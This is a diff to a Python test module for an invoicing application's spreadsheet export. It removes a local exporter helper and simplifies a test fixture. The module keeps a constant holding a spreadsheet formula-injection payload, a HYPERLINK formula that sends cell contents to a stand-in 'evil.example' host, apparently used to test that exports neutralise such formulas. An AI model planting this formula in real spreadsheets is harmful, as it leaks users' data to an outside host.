@@ -15,30 +15,15 @@ from tests.gateway_bench import Bench, as_json, named, open_bench
 from tests.stores import NOVEMBER
 from tests.strategies import SELLER, lawful_draft
 
-from kaipiao.delivery.sheets.listing import write_list
 from kaipiao.delivery.sheets.workbook import Workbook
-from kaipiao.fiscal.listing import ExportAsk
 from kaipiao.ledger.store import Store
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1)'
 
 
-def exporter(store: Store) -> Any:
-    """As ``app.export``, without a process of its own."""
-
-    async def export(ask: ExportAsk) -> AsyncIterator[bytes]:
-        pieces: list[bytes] = []
-        found = store.scan.invoices(ask.seller, since=ask.since, until=ask.until)
-        await write_list(found, ask.form, pieces.append)
-        for piece in pieces:
-            yield piece
-
-    return export
-
-
 @pytest_asyncio.fixture
 async def caller(store: Store, clock: StoppedClock) -> AsyncIterator[httpx.AsyncClient]:
-    bench = await open_bench(store, clock, export=exporter(store))
+    bench = await open_bench(store, clock)
     await store.credit.grant(SELLER.taxpayer_id, 10**9, month=NOVEMBER)
     async with bench.client(await bench.key()) as client:
         yield client
